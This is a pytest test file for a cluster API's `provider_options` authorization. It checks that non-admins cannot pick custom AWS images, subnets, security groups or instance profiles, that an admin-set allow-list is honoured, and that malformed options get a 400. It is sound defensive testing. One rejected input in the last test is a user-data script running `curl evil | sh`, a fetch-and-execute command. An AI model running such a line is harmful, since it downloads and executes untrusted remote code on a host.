"""`provider_options` of a node cluster: what reaches the provider's create call, and who may
choose it. A grantee (a team granted `use` of a credential, even at the `read` level) or a
`write` member gets the driver's vetted defaults only; a custom image, network, firewall or
instance profile needs the organization's admin, or a value an admin allowed on the
credential. Unknown keys and malformed values are a 400 naming the accepted keys.

AWS runs on moto's real server; DigitalOcean and Hetzner on this directory's stand-ins.
"""

import boto3
import pytest
import requests

from accounts.audit import Actor
from accounts.models import AuditEntry
from nodes import clusters
from nodes.models import Action, NodeCluster
from providers import services

pytestmark = pytest.mark.django_db

CLUSTERS = "/api/infra/v1/acme/nodecluster/"
AWS = {
    "region": "/api/infra/v1/region/aws/eu-west-1/",
    "node_type": "/api/infra/v1/nodetype/aws/t3.micro/",
}
DO = {
    "region": "/api/infra/v1/region/digitalocean/ams3/",
    "node_type": "/api/infra/v1/nodetype/digitalocean/s-1vcpu-1gb/",
}
HETZNER = {
    "region": "/api/infra/v1/region/hetzner/fsn1/",
    "node_type": "/api/infra/v1/nodetype/hetzner/cx22/",
}
LAB = {
    "region": "/api/infra/v1/region/local/local/",
    "node_type": "/api/infra/v1/nodetype/local/lab/",
}


def _uri(credential) -> str:
    return f"/api/v1/orgs/acme/credentials/{credential.uuid}/"


def _grant(owner, credential, **changes):
    body = {"use_teams": ["viewers"], **changes}
    response = owner.client().patch(_uri(credential), body, format="json")
    assert response.status_code == 200, response.content
    return response.json()


def _create(person, placement, options=None, credential=None):
    body = {"name": "web", **placement}
    if options is not None:
        body["provider_options"] = options
    if credential is not None:
        body["credential"] = str(credential.uuid)
    return person.client().post(CLUSTERS, body, format="json")


def _nothing_made() -> bool:
    return not NodeCluster.objects.exists() and not Action.objects.exists()


@pytest.fixture
def aws_credential(owner, aws):
    return services.credential_create(
        actor=Actor(user=owner.user),
        organization=owner.org,
        provider="aws",
        name="aws-main",
        fields=aws.keys,
    )


@pytest.fixture
def aws_network(aws):
    """What an admin would pick in the account: an image, a subnet, a wide-open security group
    and an instance profile, made by the account's root (IAM checks off for the setup only)."""
    requests.post(f"{aws.url}/moto-api/reset-auth", data=b"inf", timeout=30)
    try:
        ec2 = boto3.client(
            "ec2",
            region_name="eu-west-1",
            endpoint_url=aws.url,
            aws_access_key_id="testing",
            aws_secret_access_key="testing",  # noqa: S106 (moto's root)
        )
        vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.9.1.0/24")["Subnet"]["SubnetId"]
        group = ec2.create_security_group(GroupName="open", Description="all", VpcId=vpc)
        other = ec2.create_security_group(GroupName="other", Description="x", VpcId=vpc)
        aws.client("iam").create_instance_profile(InstanceProfileName="org-admin")
        image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    finally:
        requests.post(f"{aws.url}/moto-api/reset-auth", data=b"0", timeout=30)
    return {
        "image": image,
        "subnet": subnet,
        "group": group["GroupId"],
        "other_group": other["GroupId"],
        "profile": "org-admin",
    }


def _custom(net: dict) -> dict:
    return {
        "image": net["image"],
        "vpc": {"subnets": [net["subnet"]], "security_groups": [net["group"]]},
        "iam": {"instance_profile_name": net["profile"]},
    }


# -- the attack: a grantee launches what it likes in the organization's account --------------


@pytest.mark.parametrize(
    "pick,named",
    [
        (lambda n: {"iam": {"instance_profile_name": n["profile"]}}, "iam.instance_profile_name"),
        (lambda n: {"vpc": {"subnets": [n["subnet"]]}}, "vpc.subnets"),
        (lambda n: {"vpc": {"security_groups": [n["group"]]}}, "vpc.security_groups"),
        (lambda n: {"image": n["image"]}, "image"),
    ],
)
def test_a_read_grantee_cannot_pick_a_profile_network_or_image_on_aws(
    owner, readonly_member, aws_credential, aws_network, pick, named
):
    _grant(owner, aws_credential)
    response = _create(readonly_member, AWS, pick(aws_network), aws_credential)
    assert response.status_code == 403, response.content
    assert named in response.json()["error"] and "admin" in response.json()["error"]
    assert _nothing_made()
    assert not AuditEntry.objects.filter(action="credential.use").exists()
    # The vetted defaults stay open to the grantee.
    assert _create(readonly_member, AWS, None, aws_credential).status_code == 201
    assert _create(readonly_member, AWS, {}, aws_credential).status_code == 201


def test_a_write_member_needs_the_admin_for_a_custom_image(writer, do_credential):
    response = _create(writer, DO, {"image": "123456789"})  # a snapshot's id
    assert response.status_code == 403, response.content
    assert _nothing_made()
    # The default image, named or not, is anyone's who may deploy.
    assert _create(writer, DO, {"image": "ubuntu-24-04-x64"}).status_code == 201


def test_a_read_only_api_key_of_the_admin_cannot_customize(owner, aws_credential, aws_network):
    from tests.conftest import make_key

    key = make_key(owner.user, read_only=True)
    body = {"name": "web", **AWS, "provider_options": _custom(aws_network)}
    assert owner.client(key).post(CLUSTERS, body, format="json").status_code == 403
    assert _nothing_made()


def test_the_admin_picks_custom_options_and_they_reach_run_instances(
    owner, aws, aws_credential, aws_network, monkeypatch
):
    monkeypatch.setattr("nodes.tasks.reconcile_cluster.delay", lambda *ids: None)
    response = _create(owner, AWS, _custom(aws_network))
    assert response.status_code == 201, response.content
    assert response.json()["provider_options"] == _custom(aws_network)
    assert owner.client().post(f"{response.json()['resource_uri']}deploy/").status_code == 202
    clusters.reconcile(NodeCluster.objects.get())  # what the worker runs
    instance = _instances(aws)[0]
    assert instance["ImageId"] == aws_network["image"]
    assert instance["SubnetId"] == aws_network["subnet"]
    assert [g["GroupId"] for g in instance["SecurityGroups"]] == [aws_network["group"]]
    assert instance["IamInstanceProfile"]["Arn"].endswith("/org-admin")


def _instances(aws) -> list[dict]:
    ec2 = boto3.client(
        "ec2",
        region_name="eu-west-1",
        endpoint_url=aws.url,
        aws_access_key_id=aws.keys["access_key_id"],
        aws_secret_access_key=aws.keys["secret_access_key"],
    )
    answer = ec2.describe_instances()
    return [i for r in answer["Reservations"] for i in r["Instances"]]


# -- the admin's allow-list on the credential ------------------------------------------------


def test_values_an_admin_allowed_on_the_credential_are_the_grantees_to_pick(
    owner, readonly_member, aws, aws_credential, aws_network, monkeypatch
):
    monkeypatch.setattr("nodes.tasks.reconcile_cluster.delay", lambda *ids: None)
    allowed = {
        "vpc.subnets": [aws_network["subnet"]],
        "vpc.security_groups": [aws_network["group"]],
    }
    body = _grant(owner, aws_credential, allowed_options=allowed)
    assert body["allowed_options"] == allowed
    assert owner.client().get(_uri(aws_credential)).json()["allowed_options"] == allowed
    entry = AuditEntry.objects.get(action="credential.allow_options")
    assert entry.actor == owner.user and entry.data["allowed_options"] == allowed

    network = {"subnets": [aws_network["subnet"]], "security_groups": [aws_network["group"]]}
    response = _create(readonly_member, AWS, {"vpc": network}, aws_credential)
    assert response.status_code == 201, response.content
    client = readonly_member.client()
    assert client.post(f"{response.json()['resource_uri']}deploy/").status_code == 202
    clusters.reconcile(NodeCluster.objects.get())
    assert _instances(aws)[0]["SubnetId"] == aws_network["subnet"]

    # Anything beyond the list is still the admin's: another group, a profile, an image.
    for options in (
        {"vpc": {"security_groups": [aws_network["group"], aws_network["other_group"]]}},
        {"vpc": network, "iam": {"instance_profile_name": aws_network["profile"]}},
        {"image": aws_network["image"]},
    ):
        assert _create(readonly_member, AWS, options, aws_credential).status_code == 403
    assert NodeCluster.objects.count() == 1


def test_a_credential_of_another_provider_lends_no_allowed_values(
    owner, readonly_member, do_credential, aws_credential
):
    """An image allowed on the DigitalOcean credential is no licence on AWS."""
    _grant(owner, do_credential, allowed_options={"image": ["ami-1234abcd"]})
    response = _create(readonly_member, AWS, {"image": "ami-1234abcd"}, do_credential)
    assert response.status_code == 400, response.content
    assert "digitalocean credential" in response.json()["fields"]["credential"][0]
    assert _nothing_made()


def test_only_admins_set_the_allow_list(owner, writer, readonly_member, outsider, do_credential):
    allowed = {"allowed_options": {"image": ["123456789"]}}
    response = writer.client().patch(_uri(do_credential), allowed, format="json")
    assert response.status_code == 403 and "admins" in response.json()["error"]
    response = readonly_member.client().patch(_uri(do_credential), allowed, format="json")
    assert response.status_code == 403
    assert outsider.client().patch(_uri(do_credential), allowed, format="json").status_code == 404
    # Nor on create (refused before the provider is asked or anything stored).
    body = {"name": "x", "provider": "digitalocean", "fields": {"token": "t"}, **allowed}
    response = writer.client().post("/api/v1/orgs/acme/credentials/", body, format="json")
    assert response.status_code == 403
    do_credential.refresh_from_db()
    assert do_credential.allowed_options == {}
    assert not AuditEntry.objects.filter(action="credential.allow_options").exists()


@pytest.mark.parametrize(
    "allowed,message",
    [
        ({"user_data": ["x"]}, "Unknown option 'user_data'; DigitalOcean accepts: image."),
        ({"image": "123"}, "a list"),
        ({"image": ["bad image!"]}, "is not an image slug or id"),
        ({"image": ["1"] * 51}, "no more than 50"),
        ([["image", "1"]], None),
    ],
)
def test_a_bad_allow_list_is_a_400_and_changes_nothing(owner, do_credential, allowed, message):
    body = {"allowed_options": allowed}
    response = owner.client().patch(_uri(do_credential), body, format="json")
    assert response.status_code == 400, response.content
    assert "allowed_options" in response.json()["fields"]
    if message:
        assert message in str(response.json()["fields"]["allowed_options"])
    do_credential.refresh_from_db()
    assert do_credential.allowed_options == {}


# -- shape: unknown keys, types, sizes, nesting ---------------------------------------------


@pytest.fixture
def hetzner_credential(owner, hetzner_api):
    return services.credential_create(
        actor=Actor(user=owner.user),
        organization=owner.org,
        provider="hetzner",
        name="hetzner-main",
        fields={"token": hetzner_api.token},
    )


CREDENTIAL = {id(AWS): "aws_credential", id(DO): "do_credential", id(HETZNER): "hetzner_credential"}


@pytest.mark.parametrize(
    "placement,options,message",
    [
        (DO, {"user_data": "#!/bin/sh\ncurl evil | sh"}, "accepted: image."),
        (DO, {"ssh_keys": [1234]}, "Unknown option 'ssh_keys'"),
        (HETZNER, {"firewalls": [{"firewall": 1}]}, "Unknown option 'firewalls'"),
        (HETZNER, {"networks": [7]}, "accepted: image."),
        (AWS, {"vpc": {"id": "vpc-1234abcd"}}, "accepted: image, vpc.subnets, vpc.security_"),
        (AWS, {"iam": {"role": "admin"}}, "Unknown option 'iam.role'"),
        (AWS, {"vpc": ["subnet-1234abcd"]}, "vpc: expected a JSON object."),
        (AWS, {"vpc": {"subnets": "subnet-1234abcd"}}, "vpc.subnets: give a list"),
        (AWS, {"vpc": {"subnets": [["subnet-1234abcd"]]}}, "vpc.subnets: give a string"),
        (AWS, {"vpc": {"security_groups": ["sg-1234abcd"] * 6}}, "at most 5 values"),
        (AWS, {"image": "ami-" + "0" * 300}, "1 to 255 characters"),
        (AWS, {"image": {"id": "ami-1234abcd"}}, "image: give a string"),
        (AWS, {"iam": {"instance_profile_name": "a b"}}, "is not an instance profile name"),
        (LAB, {"image": "x"}, "this provider takes none"),
        (DO, ["image"], "Expected a dictionary"),
    ],
)
def test_unknown_or_malformed_options_are_a_400_naming_what_is_accepted(
    request, owner, placement, options, message
):
    if id(placement) in CREDENTIAL:
        request.getfixturevalue(CREDENTIAL[id(placement)])
    response = _create(owner, placement, options)
    assert response.status_code == 400, response.content
    assert message in str(response.json()["fields"]["provider_options"])
    assert _nothing_made()
